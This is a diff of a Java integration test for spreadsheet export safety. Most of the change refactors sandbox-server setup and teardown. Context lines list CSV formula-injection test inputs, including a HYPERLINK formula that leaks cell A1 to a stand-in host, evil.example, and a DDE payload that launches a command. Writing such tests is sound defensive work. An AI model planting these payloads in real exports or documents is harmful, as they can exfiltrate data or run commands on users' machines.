@@ -5,7 +5,6 @@ import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
@@ -15,13 +14,13 @@ import javax.xml.parsers.DocumentBuilderFactory;
 import dev.bulkoffboarding.job.RunService;
 import dev.bulkoffboarding.job.RunService.RunRequest;
 import dev.bulkoffboarding.job.RunService.RunResult;
-import dev.bulkoffboarding.sandbox.SandboxProperties;
 import dev.bulkoffboarding.sandbox.SandboxServer;
+import dev.bulkoffboarding.support.SandboxVendor;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
 import org.apache.commons.csv.CSVPrinter;
 import org.apache.commons.csv.CSVRecord;
-import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AutoClose;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.w3c.dom.Document;
@@ -59,9 +58,8 @@ class SpreadsheetSafetyIntegrationTests {
             "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "'=1+1", "=2+2 \u00A0");
 
-    static final SandboxServer vendor = SandboxServer.start(SandboxProperties.defaults()
-        .withLatency(Duration.ZERO)
-        .withRequestsPerMinute(0));
+    @AutoClose
+    static final SandboxServer vendor = SandboxVendor.immediate();
 
     @Autowired
     RunService runs;
@@ -71,13 +69,7 @@ class SpreadsheetSafetyIntegrationTests {
 
     @DynamicPropertySource
     static void quipteams(DynamicPropertyRegistry registry) {
-        registry.add("quipteams.base-url", () -> vendor.baseUri().toString());
-        registry.add("quipteams.api-key", SandboxServer::sandboxKey);
-    }
-
-    @AfterAll
-    static void stop() {
-        vendor.close();
+        SandboxVendor.use(vendor, registry);
     }
 
     @Test
